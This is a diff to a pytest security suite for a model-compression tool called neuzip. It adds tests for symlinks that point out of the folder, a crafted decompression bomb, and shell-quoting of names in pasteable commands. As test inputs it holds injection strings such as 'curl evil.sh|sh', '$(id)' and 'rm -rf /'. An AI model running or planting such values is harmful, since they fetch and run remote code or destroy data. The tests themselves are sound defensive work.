@@ -5,9 +5,11 @@ from __future__ import annotations
 import json
 import os
 import re
+import shlex
 import shutil
 import subprocess
 import sys
+import time
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -17,13 +19,15 @@ import pytest
 from golden.bad import make as bad
 
 from neuzip.compress import Rule, Scheme, compress, decompress, verify
+from neuzip.compress.against import compress_against
 from neuzip.compress.export import Gguf, export
 from neuzip.compress.source import TensorSource
-from neuzip.errors import NeuzipError
+from neuzip.errors import FormatError, NeuzipError, UsageError
 from neuzip.eval import histograms, pictures
 from neuzip.formats.checkpoint import find_checkpoint
 from neuzip.formats.export import gguf, gguf_model
-from neuzip.formats.model_card import model_card, split_card
+from neuzip.formats.hub import plan_push
+from neuzip.formats.model_card import model_card, shown_command, split_card
 
 ROOT = Path(__file__).resolve().parent.parent
 DOCUMENT = (ROOT / "docs" / "SECURITY.md").read_text(encoding="utf-8")
@@ -157,19 +161,26 @@ def test_a_link_out_of_the_folder_is_warned_of(model: Path, tmp_path: Path, neuz
     secret.write_text("s3cret")
     (model / "notes.txt").symlink_to(secret)
     (model / "same.json").symlink_to("config.json")
+    (model / "model.safetensors").rename(tmp_path / "real.safetensors")
+    (model / "model.safetensors").symlink_to("../real.safetensors")
     said = neuzip("compress", model, tmp_path / "small")
     assert "warning: notes.txt: a link out of the folder, copied" in said.stderr
+    assert "warning: model.safetensors: a link out of the folder, copied" in said.stderr
     assert "same.json" not in said.stderr
     assert (tmp_path / "small" / "notes.txt").read_text() == "s3cret"
 
     cache = tmp_path / "cache"
-    (cache / "snapshots" / "main").mkdir(parents=True)
+    (model / "model.safetensors").unlink()
+    (tmp_path / "real.safetensors").rename(model / "model.safetensors")
+    (cache / "snapshots" / "main" / "unet").mkdir(parents=True)
     (cache / "blobs").mkdir()
     for number, path in enumerate(p for p in model.iterdir() if not p.is_symlink()):
         shutil.copy(path, cache / "blobs" / str(number))
         (cache / "snapshots" / "main" / path.name).symlink_to(f"../../blobs/{number}")
-    said = neuzip("compress", cache / "snapshots" / "main", tmp_path / "of-the-cache")
-    assert (said.exit_code, "a link" in said.stderr) == (0, False)
+        (cache / "snapshots" / "main" / "unet" / path.name).symlink_to(f"../../../blobs/{number}")
+    for number, folder in enumerate(("main", "main/unet")):
+        said = neuzip("compress", cache / "snapshots" / folder, tmp_path / f"of-the-cache-{number}")
+        assert (said.exit_code, "a link" in said.stderr) == (0, False)
 
 
 @pytest.mark.parametrize("overwrite", [False, True])
@@ -214,6 +225,32 @@ def test_a_bomb_of_aliases_is_measured_first(tmp_path: Path, neuzip: Speak) -> N
     assert said.exit_code == 1
     assert f"take {2001 * size:,} bytes, the disk has {10 * size:,} left" in said.stderr
     assert [p.name for p in tmp_path.iterdir()] == ["bomb.safetensors"]
+
+
+def test_a_delta_of_nothing_takes_no_time(tmp_path: Path) -> None:
+    """Three bytes a block that stand for 137 GB; two of the blocks hold something, which is looked at."""
+    blocks, size = 1 << 20, 8 << 34
+    parts = bad.delta("F64")
+    coded, listed = parts.words("w:index")[:2]
+    index = np.zeros(blocks, "<u2")
+    index[7], index[-1] = coded, listed
+    parts.put("w:index", index)
+    parts.put("w:choice", bytes(blocks))
+    parts.set_original({"w": {"dtype": "F64", "shape": [size // 8], "data_offsets": [0, size]}})
+    path = tmp_path / "bomb.safetensors"
+    path.write_bytes(bad.put_together(parts.seal()))
+    began = time.process_time()
+    assert verify(path).nbytes == size
+    assert time.process_time() - began < 10  # 80 where every block is decoded
+
+    words = parts.words("w:words")
+    for at, problem in ((0, "coded blocks from block 7 on"), (int(coded) + 2, f"block {blocks - 1} of")):
+        changed = words.copy()
+        changed[at] = 0xFFFF
+        parts.put("w:words", changed)
+        path.write_bytes(bad.put_together(parts.seal()))
+        with pytest.raises(FormatError, match=problem):
+            verify(path)
 
 
 def test_a_yaml_bomb_is_left_out() -> None:
@@ -320,6 +357,34 @@ def test_not_even_a_traceback_has_escapes(hostile: Path, tmp_path: Path) -> None
     assert ran.returncode == 1
     assert "Traceback" in ran.stderr
     assert not ESCAPES.search(ran.stderr)
+
+
+HOSTILE_COMMAND = "org/model; curl evil.sh|sh #$(id)`id`'"
+
+
+def test_a_name_in_a_command_is_quoted(model: Path, tmp_path: Path, neuzip: Speak) -> None:
+    """Hints and cards have commands to paste, with names that somebody else wrote."""
+    compress(model, tmp_path / "same")
+    compress_against(tmp_path / "same", model, tmp_path / "d", HOSTILE_COMMAND)
+    hint = neuzip("verify", tmp_path / "d", "--against", model).stderr.splitlines()[-1]
+    assert shlex.split(hint) == ["hint:", "give", "--base", HOSTILE_COMMAND]
+    card = plan_push(tmp_path / "d", "me/x").card
+    assert "neuzip apply me/x DST --base BASE\n" in card
+    src = model.rename(tmp_path / "a; rm -rf b")
+    hint = neuzip("push", src, "me/x").stderr.splitlines()[-1]
+    assert shlex.split(hint)[-4:] == ["neuzip", "compress", str(src), "DST"]
+    with pytest.raises(UsageError, match="--revision: 'v1; id' cannot be named in an id"):
+        plan_push(tmp_path / "same", "me/x", revision="v1; id")
+
+
+def test_a_report_has_one_command() -> None:
+    """The card shows how figures were measured, as a report says: neuzip with arguments, and nothing else."""
+    assert shown_command("neuzip eval m --base 'my base'") == "neuzip eval m --base 'my base'"
+    assert shlex.split(shown_command("neuzip eval m; curl evil.sh | sh")) == [
+        "neuzip", "eval", "m;", "curl", "evil.sh", "|", "sh",
+    ]  # fmt: skip
+    assert "\n" not in shown_command("neuzip eval m\nrm -rf /")
+    assert shlex.split(shown_command("neuzip 'eval")) == ["neuzip 'eval"]
 
 
 def test_a_long_message_is_cut(tmp_path: Path, neuzip: Speak) -> None:
